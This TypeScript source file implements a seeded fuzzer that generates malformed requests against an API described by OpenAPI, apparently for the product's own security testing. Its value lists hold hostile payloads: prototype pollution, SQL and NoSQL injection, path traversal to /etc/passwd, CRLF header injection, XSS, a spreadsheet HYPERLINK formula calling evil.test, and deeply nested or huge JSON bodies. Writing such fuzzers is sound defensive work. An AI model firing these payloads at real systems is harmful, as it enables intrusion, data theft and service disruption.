/**
 * Requests that nobody's client would send, made from the product's own description of itself: each begins as a good
 * one of some operation and is then spoiled in one way. The same seed makes the same requests.
 */

export interface FuzzedRequest {
  operation: string
  /** How it was spoiled, for the report. */
  how: string
  method: string
  target: string
  headers: Readonly<Record<string, string>>
  body?: string
}

/** What the generator needs of an OpenAPI document. */
export interface ApiDocument {
  paths: Record<string, Record<string, DescribedOperation>>
  components: { schemas: Record<string, Schema> }
}

interface DescribedOperation {
  operationId: string
  parameters: { name: string; in: "path" | "query" | "header"; schema: Schema }[]
  /** By media type. What takes a form takes JSON, too. */
  requestBody?: { content: Record<string, { schema: Schema }> }
}

interface Schema {
  $ref?: string
  type?: string | string[]
  enum?: unknown[]
  const?: unknown
  anyOf?: Schema[]
  oneOf?: Schema[]
  properties?: Record<string, Schema>
  required?: string[]
  items?: Schema
  minimum?: number
}

/** Good values by the field's name, so that requests get past the first check. */
export type Known = Readonly<Record<string, readonly unknown[]>>

export interface Fuzzing {
  document: ApiDocument
  known: Known
  seed: number
  /** Stands in every spoiled body: nobody may ever repeat it. */
  canary: string
  /** Operations that would end the test's own callers. */
  leaveOut: ReadonlySet<string>
}

/** An endless row of requests. */
export function* fuzzedRequests(fuzzing: Fuzzing): Generator<FuzzedRequest, never> {
  const random = randomOf(fuzzing.seed)
  const operations = operationsIn(fuzzing)
  for (;;) {
    const operation = random.of(operations)
    yield spoil(good(operation, fuzzing, random), fuzzing, random)
  }
}

interface Good {
  operation: string
  method: string
  path: string
  pieces: Record<string, unknown>
  query: Record<string, unknown>
  body: Record<string, unknown> | undefined
}

interface Operation {
  method: string
  path: string
  described: DescribedOperation
}

function operationsIn({ document, leaveOut }: Fuzzing): Operation[] {
  return Object.entries(document.paths).flatMap(([path, methods]) =>
    Object.entries(methods)
      .filter(([, { operationId }]) => !leaveOut.has(operationId))
      .map(([method, described]) => ({ method: method.toUpperCase(), path, described })),
  )
}

function good({ method, path, described }: Operation, fuzzing: Fuzzing, random: Random): Good {
  const values = (place: string): Record<string, unknown> =>
    Object.fromEntries(
      described.parameters
        .filter((parameter) => parameter.in === place && (place === "path" || random.chance(0.5)))
        .map(({ name, schema }) => [name, valueFor(name, schema, fuzzing, random)]),
    )
  const [schema] = Object.values(described.requestBody?.content ?? {}).map((each) => each.schema)
  const body = schema && (valueFor("", schema, fuzzing, random) as Record<string, unknown>) // its schema is an object's
  return { operation: described.operationId, method, path, pieces: values("path"), query: values("query"), body }
}

function valueFor(name: string, given: Schema, fuzzing: Fuzzing, random: Random, depth = 0): unknown {
  const known = Object.hasOwn(fuzzing.known, name) ? fuzzing.known[name] : undefined
  if (known !== undefined) return random.of(known)
  const schema = given.$ref === undefined ? given : (fuzzing.document.components.schemas[nameIn(given.$ref)] ?? {})
  if (schema.const !== undefined) return schema.const
  if (schema.enum !== undefined) return random.of(schema.enum)
  const choices = schema.anyOf ?? schema.oneOf
  if (choices !== undefined && choices.length > 0 && depth < 4)
    return valueFor("", random.of(choices), fuzzing, random, depth + 1)
  const type = Array.isArray(schema.type) ? random.of(schema.type) : schema.type
  if (type === "object") {
    const entries = Object.entries(schema.properties ?? {})
      .filter(([field]) => (schema.required ?? []).includes(field) || random.chance(0.5))
      .map(([field, of]) => [field, valueFor(field, of, fuzzing, random, depth + 1)])
    return Object.fromEntries(entries)
  }
  if (type === "array") return [valueFor("", schema.items ?? {}, fuzzing, random, depth + 1)]
  if (type === "integer" || type === "number") return (schema.minimum ?? 0) + random.below(20)
  if (type === "boolean") return random.chance(0.5)
  if (type === "null") return null
  return random.of(["a", "text", "2026-01-01T00:00:00.000Z", "01920000-0000-7000-8000-000000000000", "x".repeat(40)])
}

function nameIn(reference: string): string {
  return reference.split("/").at(-1) ?? ""
}

type Spoil = (request: Good, fuzzing: Fuzzing, random: Random) => Partial<FuzzedRequest>

const ways: Readonly<Record<string, Spoil>> = {
  nothing: () => ({}),
  "a field of the wrong kind": ({ body }, { canary }, random) =>
    body === undefined ? {} : { body: json(replaceOne(body, random.of(hostileValues(canary)), random)) },
  "several fields of the wrong kind": ({ body = {} }, { canary }, random) => {
    const entries = Object.keys(body).map((field) => [field, random.of(hostileValues(canary))])
    return { body: json(Object.fromEntries(entries)) }
  },
  "a field that isn't known": ({ body = {} }, { canary }, random) => ({
    body: json(body).replace(/^\{/, `{${random.of(strangeFields(canary))}${Object.keys(body).length > 0 ? "," : ""}`),
  }),
  "another kind of body": (_, { canary }, random) => ({
    body: random.of([`"${canary}"`, `["${canary}"]`, "null", "1", "", `{"a":"${canary}"}`, `[{"value":"${canary}"}]`]),
  }),
  "damaged JSON": ({ body = {} }, { canary }, random) => {
    const text = json({ ...body, value: canary })
    const cut = text.slice(0, random.below(text.length))
    return {
      body: random.of([cut, `${text}x`, text.replaceAll('"', "'"), `\ufeff${text}`, `${text},`, `{"value":"${canary}`]),
    }
  },
  "much JSON": (_, { canary }, random) => ({ body: random.of(muchJson)(canary) }),
  "another content type": ({ body = {} }, { canary }, random) => ({
    body: json({ ...body, value: canary }),
    headers: random.of(otherTypes),
  }),
  "a hostile piece of the path": (request, _, random) => {
    const [name] = random.shuffled(Object.keys(request.pieces))
    const pieces = name === undefined ? request.pieces : { ...request.pieces, [name]: random.of(hostileNames) }
    return { target: targetOf({ ...request, pieces }) }
  },
  "a hostile query": (request, _, random) => {
    const separator = Object.keys(request.query).length > 0 ? "&" : "?"
    const name = random.of([...Object.keys(request.query), "limit", "cursor", "scope"])
    const value = encodeURIComponent(random.of(hostileNames))
    const pairs = [
      `${name}=${value}`,
      `${name}[]=a`,
      `${name}[not]=null`,
      `${name}=a&${name}=b`,
      "__proto__=a",
      "constructor.prototype.x=1",
      `${name}=%`,
      `${name}=%00`,
      "a=b&".repeat(500),
    ]
    return { target: `${targetOf(request)}${separator}${random.of(pairs)}` }
  },
  "hostile headers": (_, { canary }, random) => ({ headers: random.of(hostileHeaders(canary)) }),
}

function spoil(request: Good, fuzzing: Fuzzing, random: Random): FuzzedRequest {
  const how = random.of(Object.keys(ways))
  const spoiled = ways[how]?.(request, fuzzing, random) ?? {}
  const hasBody = request.method === "POST" || request.method === "PATCH"
  const body = spoiled.body ?? (request.body && json(request.body))
  return {
    operation: request.operation,
    how,
    method: request.method,
    target: spoiled.target ?? targetOf(request),
    headers: { ...(hasBody && { "content-type": "application/json" }), ...spoiled.headers },
    ...(hasBody && body !== undefined && { body }),
  }
}

function targetOf({ path, pieces, query }: Good): string {
  const filled = path.replace(/\{(\w+)\}/g, (_, name: string) => encodeURIComponent(asText(pieces[name])))
  const pairs = Object.entries(query).map(([name, value]) => `${name}=${encodeURIComponent(asText(value))}`)
  return pairs.length === 0 ? filled : `${filled}?${pairs.join("&")}`
}

function asText(value: unknown): string {
  const text = typeof value === "string" ? value : (JSON.stringify(value) ?? "")
  return text.toWellFormed()
}

/** As JSON, with the one key that an object of ours can't have. */
function json(value: unknown): string {
  return JSON.stringify(value).replaceAll('"__PROTO__"', '"__proto__"')
}

function replaceOne(body: Record<string, unknown>, value: unknown, random: Random): Record<string, unknown> {
  const [field] = random.shuffled(Object.keys(body))
  if (field === undefined) return body
  const inner = body[field]
  const goesDeeper = typeof inner === "object" && inner !== null && !Array.isArray(inner) && random.chance(0.6)
  return { ...body, [field]: goesDeeper ? replaceOne(inner as Record<string, unknown>, value, random) : value }
}

function hostileValues(canary: string): readonly unknown[] {
  return [
    null,
    true,
    -1,
    0.5,
    2 ** 53,
    2 ** 31,
    1e308,
    [],
    {},
    [canary],
    { value: canary },
    { not: null },
    { contains: "" },
    { $ne: canary },
    { in: [canary] },
    { toString: canary },
    { __PROTO__: { admin: canary } },
    { constructor: { prototype: { admin: canary } } },
    { length: 1e9, 0: canary },
    [[[[[[[[[[[[[[[[[[[[canary]]]]]]]]]]]]]]]]]]]],
    `${canary}\0`,
    `\ud800${canary}`,
    `=HYPERLINK("http://evil.test/${canary}")`,
    `${canary}\r\nSet-Cookie: a=b`,
    `\x1b[31m${canary}\x1b[0m`,
    `\u202e${canary}`,
    `' OR 1=1 --${canary}`,
    canary.repeat(2_000),
    "9".repeat(400),
    "0000-01-01T00:00:00.000Z",
    "+275760-09-13T00:00:00.001Z",
    "NaN",
  ]
}

function strangeFields(canary: string): readonly string[] {
  return [
    `"__proto__":{"isAdmin":"${canary}"}`,
    `"constructor":{"prototype":{"isAdmin":"${canary}"}}`,
    `"prototype":"${canary}"`,
    `"organizationId":"${canary}"`,
    `"where":{"id":{"not":"${canary}"}}`,
    `"${canary}":1`,
    `"a":1,"a":"${canary}"`,
    `"\\u005f_proto__":{"x":"${canary}"}`,
    `"toString":null,"hasOwnProperty":"${canary}"`,
  ]
}

const muchJson: readonly ((canary: string) => string)[] = [
  (canary) => `${"[".repeat(20_000)}"${canary}"${"]".repeat(20_000)}`,
  (canary) => `${'{"a":'.repeat(8_000)}"${canary}"${"}".repeat(8_000)}`,
  (canary) => `{${Array.from({ length: 5_000 }, (_, at) => `"k${at}":1`).join(",")},"value":"${canary}"}`,
  (canary) => `{${'"a":1,'.repeat(5_000)}"a":"${canary}"}`,
  (canary) => `{"value":[${"1,".repeat(20_000)}"${canary}"]}`,
  (canary) => `{"value":"${canary}${"x".repeat(600_000)}"}`,
  (canary) => `{"value":"${`\\u0000${canary}`.repeat(500)}"}`,
]

const otherTypes: readonly Record<string, string>[] = [
  { "content-type": "text/plain" },
  { "content-type": "application/x-www-form-urlencoded" },
  { "content-type": "multipart/form-data; boundary=x" },
  { "content-type": "application/json; charset=utf-16" },
  { "content-type": "application/json; __proto__=x" },
  { "content-encoding": "gzip" },
  { "content-encoding": "deflate, br" },
]

function hostileHeaders(canary: string): readonly Record<string, string>[] {
  return [
    { ["__proto__"]: canary },
    { constructor: canary, "x-proto": "__proto__" },
    { "x-request-id": "a".repeat(200) },
    { "idempotency-key": canary },
    { "idempotency-key": "k".repeat(5_000) },
    { "if-none-match": `W/"${canary}"` },
    { "if-none-match": '"a", "b", *' },
    { "user-agent": `\x09${canary}"}{"level":"error"` },
    { "user-agent": "\u00e9\u00ff" },
    { cookie: `strongroom-session=${canary}; __proto__=1` },
    { accept: "text/html", "accept-language": canary },
    { origin: "https://evil.test" },
    { "sec-fetch-site": "cross-site" },
    { expect: canary },
    { range: "bytes=0-1" },
    { "strongroom-client-address": "10.0.0.1", "x-forwarded-for": "__proto__" },
  ]
}

/** Names as T-06, T-49, T-51 and T-52 have them: what means something to a path, a shell, a sheet or an eye. */
export const hostileNames: readonly string[] = [
  "root",
  "sys",
  "new",
  "api",
  "-",
  ".",
  "..",
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  " ",
  "\0",
  "a\0b",
  "a b",
  "a/b",
  "../../etc/passwd",
  "..\\..\\windows",
  "..;/",
  "%2e%2e",
  "%2f",
  "%00",
  "a?b",
  "a#b",
  "a:b",
  "a;b",
  "a*",
  "+",
  "=1+1",
  "@SUM(A1)",
  "-1+1|cmd",
  "\t=1",
  "a\r\nb",
  "\x1b[2J",
  "\u2028",
  "\u202eabc",
  "a\u200bb",
  "\u0430dmin",
  "ＡＤＭＩＮ",
  "ﬀ",
  "İ",
  "ſ",
  "K",
  "x".repeat(129),
  "x".repeat(5_000),
  "acme..payments",
  ".acme",
  "acme.",
  "a.b.c.d",
  "*",
  "null",
  "undefined",
  "NaN",
  "true",
  "[object Object]",
  "{{7*7}}",
  "${7*7}",
  "<script>alert(1)</script>",
  "' OR '1'='1",
  "\\",
  "\u{1f4a9}",
]

export interface Random {
  below(limit: number): number
  chance(probability: number): boolean
  of<Item>(items: readonly Item[]): Item
  shuffled<Item>(items: readonly Item[]): Item[]
}

/** The same numbers for the same seed (mulberry32). */
export function randomOf(seed: number): Random {
  let state = seed >>> 0
  const next = (): number => {
    state = (state + 0x6d2b79f5) >>> 0
    let mixed = Math.imul(state ^ (state >>> 15), state | 1)
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61)
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32
  }
  const below = (limit: number): number => Math.floor(next() * limit)
  return {
    below,
    chance: (probability) => next() < probability,
    of: <Item>(items: readonly Item[]): Item => {
      if (items.length === 0) throw new Error("There is nothing to choose from.")
      return items[below(items.length)] as Item // it is within
    },
    shuffled: (items) =>
      items
        .map((item) => ({ item, at: next() }))
        .sort((one, other) => one.at - other.at)
        .map(({ item }) => item),
  }
}
